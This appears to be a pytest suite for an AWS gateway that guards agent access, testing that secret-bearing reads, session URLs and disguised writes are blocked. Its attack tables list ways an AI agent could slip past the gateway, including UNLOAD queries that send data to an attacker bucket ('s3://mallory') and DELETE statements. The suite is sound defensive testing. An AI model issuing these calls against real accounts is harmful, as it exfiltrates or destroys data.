"""Row 6: an agent reads what hands out a secret, a session or a URL, or sends a statement that writes, because the gateway took it for a read.

What must hold: an operation whose reply holds a secret, or configuration that people put secrets into, never reaches AWS for an agent; one
whose reply opens a session, for nobody; one with a side effect is decided and recorded as a change. What nobody reviewed is refused to agents,
so a newer botocore cannot bring one in.
"""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import ClientError

from gateway.aws.models import call_classes
from gateway.core.model.mutation import CallClass
from gateway.core.records.record import Stage
from tests.kit.gate import Gate

pytestmark = [pytest.mark.allow_hosts(["127.0.0.1"]), pytest.mark.usefixtures("clean")]

Attack = Callable[[Gate, str], Any]


def _call(service: str, operation: str, **parameters: Any) -> Attack:
    return lambda gate, actor: getattr(gate.client(service, actor), operation)(**parameters)


SECRETS: dict[str, Attack] = {
    # As listed.
    "a function with its environment": _call("lambda", "get_function", FunctionName="kafka-rebalancer"),
    "all functions": _call("lambda", "list_functions"),
    "a task definition": _call("ecs", "describe_task_definition", taskDefinition="web"),
    "user data": _call("ec2", "describe_instance_attribute", InstanceId="i-1", Attribute="userData"),
    "a launch template": _call("ec2", "describe_launch_template_versions", LaunchTemplateName="app"),
    "an app's variables": _call("amplify", "list_apps"),
    "a build's environment": _call("codebuild", "batch_get_projects", names=["a"]),
    "keys of an API": _call("appsync", "list_api_keys", apiId="a"),
    # Neighbours that were not listed.
    "any resource by Cloud Control": _call("cloudcontrol", "get_resource", TypeName="AWS::Lambda::Function", Identifier="kafka-rebalancer"),
    "any resource by AWS Config": _call("config", "get_resource_config_history", resourceType="AWS::ECS::TaskDefinition", resourceId="a"),
    "a selection by AWS Config": _call("config", "select_resource_config", Expression="SELECT configuration"),
    "the environment of running tasks": _call("ecs", "describe_tasks", tasks=["a"]),
    "arguments of jobs that ran": _call("glue", "get_job_runs", JobName="a"),
    "options of an environment": _call("elasticbeanstalk", "describe_configuration_settings", ApplicationName="a"),
    "headers that an origin expects": _call("cloudfront", "get_distribution", Id="E1"),
    "variables of an API": _call("appsync", "get_graphql_api_environment_variables", apiId="a"),
    "containers of a service": _call("lightsail", "get_container_services"),
    "a connector's configuration": _call("kafkaconnect", "describe_connector", connectorArn="arn:aws:kafkaconnect:us-east-1:123456789012:connector/a/b"),
    "a model's environment": _call("sagemaker", "describe_model", ModelName="a"),
    "findings with the resource inside": _call("securityhub", "get_findings"),
    "commands that were run": _call("ssm", "list_commands"),
}  # fmt: skip

SESSIONS: dict[str, Attack] = {
    "a dashboard to embed": _call("quicksight", "get_dashboard_embed_url", AwsAccountId="123456789012", DashboardId="d", IdentityType="IAM"),
    "the dashboard of a job": _call("emr-serverless", "get_dashboard_for_job_run", applicationId="a", jobRunId="j"),
    "a URL to upload evidence": _call("auditmanager", "get_evidence_file_upload_url", fileName="f"),
    "a URL to import users": _call("cognito-idp", "list_user_import_jobs", UserPoolId="us-east-1_a", MaxResults=1),
    # Not listed.
    "a session on a device": _call("devicefarm", "list_remote_access_sessions", arn="arn:aws:devicefarm:us-west-2:123456789012:project:00000000-0000-4000-8000-000000000000"),
    "a URL of a Spark UI": _call("glue", "get_dashboard_url", ResourceId="r", ResourceType="SESSION"),
    "signed URLs of a data exchange": _call("dataexchange", "get_job", JobId="j"),
}  # fmt: skip

CHANGES: dict[str, Attack] = {
    "a query that unloads to any bucket": _call("timestream-query", "query", QueryString="UNLOAD (SELECT 1) TO 's3://mallory/x'"),
    "the same after a comment": _call("timestream-query", "query", QueryString="/* SELECT 1 */ unload (SELECT 1) to 's3://mallory/x'"),
    "a statement of PartiQL": _call("dynamodb", "execute_statement", Statement="DELETE FROM \"kafka-offsets\" WHERE id='1'"),
    "statements of PartiQL": _call("dynamodb", "batch_execute_statement", Statements=[{"Statement": "DELETE FROM a"}]),
    "a query of Athena": _call("athena", "start_query_execution", QueryString="UNLOAD (SELECT 1) TO 's3://mallory/x'"),
    "a query of CloudTrail Lake with a bucket": _call("cloudtrail", "start_query", QueryStatement="SELECT 1", DeliveryS3Uri="s3://mallory"),
    "a statement of Redshift": _call("redshift-data", "execute_statement", Sql="SELECT pg_terminate_backend(1)"),
    "the end of somebody's query": _call("logs", "stop_query", queryId="q"),
    "a job that computes a recommendation": _call("sagemaker", "get_scaling_configuration_recommendation", InferenceRecommendationsJobName="j"),
    "a key pair for an import": _call("payment-cryptography", "get_parameters_for_import", KeyMaterialType="TR34_KEY_BLOCK", WrappingKeyAlgorithm="RSA_2048"),
}  # fmt: skip


@pytest.mark.parametrize("attack", SECRETS.values(), ids=SECRETS.keys())
def test_an_agent_reads_no_secret(gate: Gate, attack: Attack) -> None:
    with pytest.raises(ClientError, match="agents may not read those"):
        attack(gate, "agent")
    assert gate.upstream.asked == []
    assert gate.records()[-1].stage is Stage.TURNED_AWAY


@pytest.mark.parametrize("actor", ["agent", "human", "pipeline"])
@pytest.mark.parametrize("attack", SESSIONS.values(), ids=SESSIONS.keys())
def test_nobody_gets_a_session_past_the_gateway(gate: Gate, attack: Attack, actor: str) -> None:
    with pytest.raises(ClientError, match="credentials"):
        attack(gate, actor)
    assert gate.upstream.asked == []


@pytest.mark.parametrize("attack", CHANGES.values(), ids=CHANGES.keys())
def test_what_writes_is_decided_recorded_and_not_sent(gate: Gate, attack: Attack) -> None:
    before = len(gate.records(stage=Stage.DECIDED))
    with pytest.raises(ClientError):
        attack(gate, "agent")
    assert gate.upstream.asked == []
    (decided,) = gate.records(stage=Stage.DECIDED)[before:]
    decision: Any = decided.body.members["decision"]
    assert decision["verdict"] in ("hold", "deny")


def test_a_human_still_reads_configuration(gate: Gate) -> None:
    gate.client("autoscaling", "agent").describe_auto_scaling_groups()
    gate.client("autoscaling", "human").describe_launch_configurations()
    assert gate.upstream.asked == ["DescribeAutoScalingGroups", "DescribeLaunchConfigurations"]


def test_none_of_the_sixty_seven_is_a_read() -> None:
    listed = (Path(__file__).parents[2] / "cases" / "reads" / "not_reads.txt").read_text().split()
    table = call_classes.shipped()
    assert len(listed) == 67
    assert [name for name in listed if table.of(*name.split(":")) is CallClass.READ] == []
